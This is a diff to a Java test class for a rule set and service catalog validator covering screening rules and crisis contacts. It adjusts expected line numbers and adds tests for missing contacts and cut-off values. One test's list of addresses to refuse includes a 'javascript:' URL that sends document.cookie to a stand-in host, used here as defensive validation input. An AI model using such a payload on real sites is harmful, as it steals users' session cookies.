@@ -20,7 +20,7 @@ class RuleSetValidatorTest {
         assertThat(report.valid()).isFalse();
         assertThat(report.errors()).singleElement().satisfies(p -> {
             assertThat(p.path()).isEqualTo("rules/epds.drl");
-            assertThat(p.line()).isEqualTo(17);
+            assertThat(p.line()).isEqualTo(18);
             assertThat(p.message()).contains("postive").contains("positive");
         });
         assertThat(report.analysis()).isNull();
@@ -41,6 +41,17 @@ class RuleSetValidatorTest {
         assertThat(report.scenarios()).isNull();
     }
 
+    /** The line (from 1) of the first line of the default catalog holding {@code text}. */
+    private static int lineOf(String text) {
+        String[] lines = RuleSetFiles.readDefault().text("catalog/services.yaml").split("\n", -1);
+        for (int i = 0; i < lines.length; i++) {
+            if (lines[i].contains(text)) {
+                return i + 1;
+            }
+        }
+        throw new IllegalStateException(text + " is not in the default catalog");
+    }
+
     @Test
     void aWebAddressThatIsNotHttpsHttpTelOrMailtoIsRefusedAtItsLine() {
         for (String web : new String[] {"javascript:fetch('//evil.example?'+document.cookie)", "JavaScript:alert(1)",
@@ -52,8 +63,8 @@ class RuleSetValidatorTest {
             assertThat(report.valid()).as(web).isFalse();
             assertThat(report.errors()).as(web).singleElement().satisfies(p -> {
                 assertThat(p.path()).isEqualTo("catalog/services.yaml");
-                // The tab is written \t in the file, so that address is found at its service's id (line 23) instead.
-                assertThat(p.line()).isEqualTo(web.contains("\\") ? 23 : 40);
+                // The tab is written \t in the file, so that address is found at its service's id instead.
+                assertThat(p.line()).isEqualTo(lineOf(web.contains("\\") ? "- id: BVC_NURSE" : "web: \"https://www.1177.se\""));
                 assertThat(p.message()).contains("web", "https:", "http:", "tel:", "mailto:");
                 assertThat(p.sv()).contains("webbadress");
             });
@@ -96,7 +107,7 @@ class RuleSetValidatorTest {
 
         assertThat(report.errors()).singleElement().satisfies(p -> {
             assertThat(p.path()).isEqualTo("ruleset.yaml");
-            assertThat(p.line()).isEqualTo(22);
+            assertThat(p.line()).isEqualTo(21);
             assertThat(p.message()).contains("\"a/b\"");
         });
     }
@@ -110,6 +121,24 @@ class RuleSetValidatorTest {
             assertThat(p.line()).isGreaterThan(30);
             assertThat(p.message()).contains("UNEMPLOYMENT").contains("why");
         });
+    }
+
+    @Test
+    void aTriggerThatNamesALineThatDoesNotExistIsRefused() {
+        ValidationReport report = validate(RuleSets.edited("ruleset.yaml", yaml -> yaml.replace(
+                "contacts: [MIND_SJALVMORDSLINJEN, HEALTHCARE_1177, EMERGENCY_112]", "contacts: [MIND, HEALTHCARE_1177]")));
+
+        assertThat(report.valid()).isFalse();
+        assertThat(report.errors()).anySatisfy(p -> assertThat(p.message()).contains("SELF_HARM").contains("MIND"));
+    }
+
+    @Test
+    void anUnvalidatedCutOffAboveTheFallbackFormsIsRefused() {
+        ValidationReport report = validate(RuleSets.edited("ruleset.yaml", yaml -> yaml.replace(
+                "unvalidatedPositiveFrom: 10", "unvalidatedPositiveFrom: 14")));
+
+        assertThat(report.valid()).isFalse();
+        assertThat(report.errors()).anySatisfy(p -> assertThat(p.message()).contains("unvalidatedPositiveFrom"));
     }
 
     @Test
